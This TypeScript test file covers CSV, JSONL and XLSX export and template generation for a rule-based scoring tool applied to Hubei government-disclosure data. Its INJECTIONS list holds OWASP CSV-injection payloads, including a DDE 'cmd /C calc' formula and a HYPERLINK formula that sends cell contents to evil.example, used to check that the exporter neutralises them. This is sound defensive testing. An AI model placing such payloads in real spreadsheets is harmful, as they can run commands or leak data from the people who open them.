import { resolve } from "node:path";
import { strFromU8, unzipSync, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { scoreCohort } from "../../cohort/cohort.js";
import type { CompiledRuleSet } from "../../compile/compile.js";
import { compileRuleSet } from "../../compile/compile-rule-set.js";
import { loadRuleSetFile, loadUnitsFile } from "../../node/index.js";
import { type Cell, neutralise } from "./cells.js";
import { toCsv, toJsonl } from "./csv.js";
import { resultTables } from "./results.js";
import { FIRST_DATA_ROW, LONG_HEADERS, periodsOf, templateSheet } from "./template.js";
import { toXlsx, toXlsxWith, xlsxParts, type ZipSync } from "./xlsx.js";

const HUBEI = "rules/hubei/caizheng-bianzhi-2009-h1/rules.yaml";
const UNITS = "examples/hubei-2009-h1-units.yaml";

function compiled(file: string): CompiledRuleSet {
  const r = loadRuleSetFile(file, file);
  if (!r.ok) throw new Error(r.issues.map((i) => i.message).join("\n"));
  return compileRuleSet(r.ruleSet);
}

function hubeiCohort() {
  const crs = compiled(HUBEI);
  const { units } = loadUnitsFile(resolve(UNITS), UNITS);
  return { crs, cohort: scoreCohort(crs, units, { trace: true }) };
}

const zip = zipSync as unknown as ZipSync;
const unzip = (b: Uint8Array) => {
  const files = unzipSync(b);
  return Object.fromEntries(Object.entries(files).map(([k, v]) => [k, strFromU8(v)]));
};

/** The OWASP CSV-injection examples, and what each becomes. */
const INJECTIONS: [string, string][] = [
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["@SUM(1+1)", "'@SUM(1+1)"],
  ["+1+1", "'+1+1"],
  ["-2+3", "'-2+3"],
  [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  ],
  ["\t=1", "'\t=1"],
  ["\r=1", "'\r'=1"],
  ["＝1", "'＝1"],
  ["＋1", "'＋1"],
  ["－1", "'－1"],
  ["＠1", "'＠1"],
  [" =1", "' =1"],
  ["\u3000=1", "'\u3000=1"],
  ["a\n=1", "a\n'=1"],
  ["a\r\n+1\n-1", "a\r\n'+1\n'-1"],
  ["\tplain", "'\tplain"],
];

describe("neutralise (formula injection)", () => {
  it.each(INJECTIONS)("%j gets a leading ' on every dangerous line", (input, want) => {
    expect(neutralise(input)).toBe(want);
  });

  it("leaves ordinary text alone", () => {
    for (const s of ["武汉市", "3处×0.2分", "a-b", "1+1", "", "x@y", "'=1 already"]) {
      expect(neutralise(s)).toBe(s);
    }
  });
});

describe("CSV", () => {
  it("starts with a BOM, ends every line with CRLF and quotes per RFC 4180", () => {
    const csv = toCsv({
      name: "t",
      columns: [{ header: "单位" }, { header: "分值变化" }, { header: "原因" }],
      rows: [
        ["武汉市", { num: "-3.5" }, 'he said "no", then\nleft'],
        ["-2+3", { num: "-2" }, null],
        ["a,b", { num: "97.25" }, " lead"],
      ],
    });
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe(
      '\ufeff单位,分值变化,原因\r\n武汉市,-3.5,"he said ""no"", then\nleft"\r\n\'-2+3,-2,\r\n"a,b",97.25," lead"\r\n',
    );
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it("neutralises every injection example in a text cell, never a number", () => {
    const csv = toCsv({
      name: "x",
      columns: [{ header: "v" }, { header: "n" }],
      rows: INJECTIONS.map(([s]) => [s, { num: "-3.5" }]),
    });
    const lines = csv.slice(1);
    for (const [, want] of INJECTIONS) {
      const quoted = /[",\r\n]|^\s|\s$/.test(want) ? `"${want.replace(/"/g, '""')}"` : want;
      expect(lines).toContain(`${quoted},-3.5\r\n`);
    }
    // No field starts a formula: every -3.5 is a number, every dangerous text starts with '.
    expect(lines).not.toMatch(/(^|,|\r\n)[=+@＝＋＠]/);
  });

  it("JSON Lines: one object per row, decimals as strings, text as given", () => {
    const out = toJsonl({
      name: "x",
      columns: [{ header: "单位" }, { header: "总分" }],
      rows: [
        ["=1", { num: "97.5" }],
        ["b", null],
      ],
    });
    expect(out).toBe('{"单位":"=1","总分":"97.5"}\n{"单位":"b","总分":null}\n');
  });
});

describe("result tables", () => {
  it("scores: unit, category, total, grade, rank, category rank, notes, then the indicators in rule order", () => {
    const { crs, cohort } = hubeiCohort();
    const t = resultTables(crs, cohort);
    const heads = t.scores.columns.map((c) => c.header);
    expect(heads.slice(0, 7)).toEqual([
      "单位",
      "类别",
      "总分",
      "等次",
      "名次",
      "类别内名次",
      "说明",
    ]);
    expect(heads[7]).toBe("财政专项资金分配管理网上公开情况");
    expect(heads.length).toBe(7 + new Set(heads.slice(7)).size);
    expect(t.scores.rows.length).toBe(cohort.units.length);
    const first = cohort.units[0];
    const row = t.scores.rows[0] as Cell[];
    expect(row[0]).toBe(first?.unit);
    expect(row[2]).toEqual({ num: first?.score?.toFixed() });
    // Deductions: signed, with the reason and the source.
    expect(t.deductions.columns.map((c) => c.header)).toEqual([
      "单位",
      "指标",
      "条款",
      "分值变化",
      "原因",
      "依据",
    ]);
    const neg = t.deductions.rows.find((r) => (r[3] as { num: string }).num.startsWith("-"));
    expect(neg).toBeDefined();
    expect(String(neg?.[5])).toMatch(/^《.+》.*“.+”$/);
    expect(t.flags.columns.map((c) => c.header)).toEqual(["单位", "标记"]);
  });

  it("a unit not scored says 未评分 and its reason codes", () => {
    const crs = compiled(HUBEI);
    const cohort = scoreCohort(crs, [{ id: "空单位", category: "other", facts: {} }], {
      trace: true,
    });
    const t = resultTables(crs, cohort);
    const row = t.scores.rows[0] as Cell[];
    expect(row[2]).toBe("未评分");
    expect(String(row[6])).toMatch(/^[A-Z_]+(、[A-Z_]+)*$/);
  });
});

describe("XLSX", () => {
  it("three sheets, header cells, exact decimals in <v>, no formulas, frozen header", async () => {
    const { crs, cohort } = hubeiCohort();
    const t = resultTables(crs, cohort);
    const bytes = await toXlsx([t.scores, t.deductions, t.flags]);
    const parts = unzip(bytes);
    expect(Object.keys(parts).sort()).toEqual(
      [
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/app.xml",
        "docProps/core.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
        "xl/worksheets/sheet2.xml",
        "xl/worksheets/sheet3.xml",
      ].sort(),
    );
    const wb = parts["xl/workbook.xml"] as string;
    expect([...wb.matchAll(/<sheet name="([^"]+)"/g)].map((m) => m[1])).toEqual([
      "得分",
      "扣分",
      "标记",
    ]);
    const sst = [
      ...(parts["xl/sharedStrings.xml"] as string).matchAll(/<t[^>]*>([^<]*)<\/t>/g),
    ].map((m) => m[1]);
    const s1 = parts["xl/worksheets/sheet1.xml"] as string;
    const a1 = /<c r="A1" s="1" t="s"><v>(\d+)<\/v><\/c>/.exec(s1);
    expect(sst[Number(a1?.[1])]).toBe("单位");
    const score = cohort.units[0]?.score?.toFixed();
    expect(s1).toContain(`<c r="C2"><v>${score}</v></c>`);
    expect(s1).toContain('state="frozen"');
    const s2 = parts["xl/worksheets/sheet2.xml"] as string;
    expect(s2).toMatch(/<c r="D\d+"><v>-\d+(\.\d+)?<\/v><\/c>/);
    for (const x of Object.values(parts)) {
      expect(x).not.toMatch(/<f[ >]/);
      expect(x).not.toMatch(/dcterms:created|dcterms:modified/);
    }
    expect(parts["xl/styles.xml"]).toContain("<b/>");
  });

  it("writes an exact decimal, neutralises text, strips characters illegal in XML", () => {
    const parts = Object.fromEntries(
      xlsxParts([
        {
          name: "t",
          columns: [{ header: "a" }, { header: "b" }],
          rows: [
            [{ num: "0.1000000000000000055511151231257827" }, "=1+1"],
            [{ num: "-3.5" }, "x\u0001<y>&\ud800"],
          ],
        },
      ]).map(([k, v]) => [k, new TextDecoder().decode(v)]),
    );
    const s = parts["xl/worksheets/sheet1.xml"] as string;
    expect(s).toContain("<v>0.1000000000000000055511151231257827</v>");
    expect(s).toContain('<c r="A3"><v>-3.5</v></c>');
    const sst = parts["xl/sharedStrings.xml"] as string;
    expect(sst).toContain(">'=1+1</t>");
    expect(sst).toContain(">x&lt;y&gt;&amp;</t>");
  });

  it("same input, same bytes (also across time zones: DOS times are local 1980-01-01)", async () => {
    const { crs, cohort } = hubeiCohort();
    const t = resultTables(crs, cohort);
    const a = await toXlsx([t.scores, t.deductions, t.flags]);
    const b = toXlsxWith([t.scores, t.deductions, t.flags], zip);
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
    // The local-file header's DOS date: 1980-01-01 is (0 << 9) | (1 << 5) | 1 = 0x21, time 0.
    expect(a[10]).toBe(0);
    expect(a[11]).toBe(0);
    expect(a[12]).toBe(0x21);
    expect(a[13]).toBe(0);
    expect(toCsv(t.deductions)).toBe(toCsv(resultTables(crs, cohort).deductions));
  });
});

describe("templates", () => {
  it("wide: 单位, 类别, then every fact a unit gives by its label, in rule order", () => {
    const crs = compiled(HUBEI);
    const sheet = templateSheet(crs);
    const heads = sheet.columns.map((c) => c.header);
    const computed = new Set(crs.source.cohort?.facts?.map((f) => f.id));
    const expected = crs.source.facts
      .filter((f) => !computed.has(f.id))
      .flatMap((f) =>
        f.type === "series"
          ? periodsOf({ from: "2009-01-01", to: "2009-06-30" }, "month").map(
              (p) => `${f.label}[${p}]`,
            )
          : [f.label],
      );
    expect(heads).toEqual(["单位", "类别", ...expected]);
    expect(heads).toContain("每月反映本地政务公开工作情况的动态信息条数[2009-06]");
    expect(heads).not.toContain(
      "全省40%以上县市区已详细公开、本地仅公开资金总表并说明原因的专项资金数",
    );
    // Findings the rules read one by one (a cap per subject, a deadline) point to the long layout.
    const fill = (label: string) => String(sheet.rows[0]?.[heads.indexOf(label)]);
    expect(fill("内设机构基本情况内容空缺(每处,按单位)")).toContain("对象:有问题时请用长表");
    expect(fill("机构和人员编制信息的变化及其网上更新(每次变化一条)")).toContain("日期");
    expect(fill("编制信息不全面、不完整")).toMatch(/^是\/否;/);
    // Two comment rows, each starting with #.
    expect(sheet.rows.map((r) => String(r[0]).startsWith("#"))).toEqual([true, true]);
  });

  it("XLSX: dropdowns for booleans and categories, whole numbers for counts, from row 4", async () => {
    const crs = compiled(HUBEI);
    const sheet = templateSheet(crs);
    const a = await toXlsx([sheet]);
    const b = await toXlsx([templateSheet(compiled(HUBEI))]);
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
    const parts = unzip(a);
    const s = parts["xl/worksheets/sheet1.xml"] as string;
    expect(s).toContain('<formula1>"是,否"</formula1>');
    expect(s).toContain(`<formula1>"${crs.categories?.join(",")}"</formula1>`);
    expect(s).toMatch(
      new RegExp(
        `<dataValidation type="whole" operator="greaterThanOrEqual"[^>]*sqref="[A-Z]+${FIRST_DATA_ROW}:[A-Z]+1000"><formula1>0</formula1>`,
      ),
    );
    expect(s).not.toMatch(/<f[ >]/);
    expect(parts["xl/workbook.xml"]).toContain('<sheet name="单位"');
  });

  it("long: the findings-log headers, with the findings facts' labels in a dropdown", async () => {
    const crs = compiled(HUBEI);
    const sheet = templateSheet(crs, { layout: "long" });
    expect(sheet.columns.map((c) => c.header)).toEqual([...LONG_HEADERS]);
    const parts = unzip(await toXlsx([sheet]));
    const wb = parts["xl/workbook.xml"] as string;
    // The labels are too long for an inline list: they go to the hidden sheet 选项.
    expect(wb).toMatch(/<sheet name="选项" sheetId="2" state="hidden"/);
    const s = parts["xl/worksheets/sheet1.xml"] as string;
    expect(s).toContain("<formula1>&apos;选项&apos;!$A$1:$A$".replace(/&apos;/g, "'"));
    expect(s).toMatch(/<formula1>"详细公开,总表说明,[^"]*"<\/formula1>/);
  });

  it("CSV template: BOM, header, comment rows", () => {
    const csv = toCsv(templateSheet(compiled(HUBEI), { category: "chengzhong" }));
    const lines = csv.slice(1).split("\r\n");
    expect(lines[0]?.startsWith("单位,类别,")).toBe(true);
    expect(lines[1]?.startsWith("#")).toBe(true);
    expect(lines[2]?.startsWith("#")).toBe(true);
  });

  it("periods of a window", () => {
    expect(periodsOf({ from: "2024-11-05", to: "2025-02-01" }, "month")).toEqual([
      "2024-11",
      "2024-12",
      "2025-01",
      "2025-02",
    ]);
    expect(periodsOf({ from: "2024-08-01", to: "2025-04-30" }, "quarter")).toEqual([
      "2024-Q3",
      "2024-Q4",
      "2025-Q1",
      "2025-Q2",
    ]);
  });
});

describe("every bundled rule set", () => {
  const sets: [string, string | undefined][] = [
    [
      "rules/guizhou/wudang-2018/rules.yaml",
      "rules/guizhou/wudang-2018/params/example-allocation-UNOFFICIAL.yaml",
    ],
    ["rules/generic/zhengwu-xinxi/rules.yaml", undefined],
    [HUBEI, undefined],
    ["test/cohort-sets/linked/rules.yaml", undefined],
  ];
  it.each(sets)(
    "%s: wide and long templates, valid XLSX with a validation per list",
    async (file, params) => {
      const r = loadRuleSetFile(file, file, params ? { params } : {});
      if (!r.ok) throw new Error(r.issues.map((i) => i.message).join("\n"));
      const crs = compileRuleSet(r.ruleSet);
      for (const layout of ["wide", "long"] as const) {
        const sheet = templateSheet(crs, { layout });
        expect(sheet.columns[0]?.header).toBe("单位");
        expect(new Set(sheet.columns.map((c) => c.header)).size).toBe(sheet.columns.length);
        const parts = unzip(await toXlsx([sheet]));
        const xml = parts["xl/worksheets/sheet1.xml"] as string;
        const lists = sheet.validations?.filter((v) => v.type === "list").length ?? 0;
        expect((xml.match(/type="list"/g) ?? []).length).toBe(lists);
        expect(xml).not.toMatch(/<f[ >]/);
      }
      // Choice facts get their options as a dropdown.
      for (const f of crs.source.facts.filter((x) => x.type === "choice")) {
        const sheet = templateSheet(crs);
        const v = sheet.validations?.find((x) => sheet.columns[x.col]?.header === f.label);
        expect(v?.list).toEqual(f.options);
      }
    },
  );
});
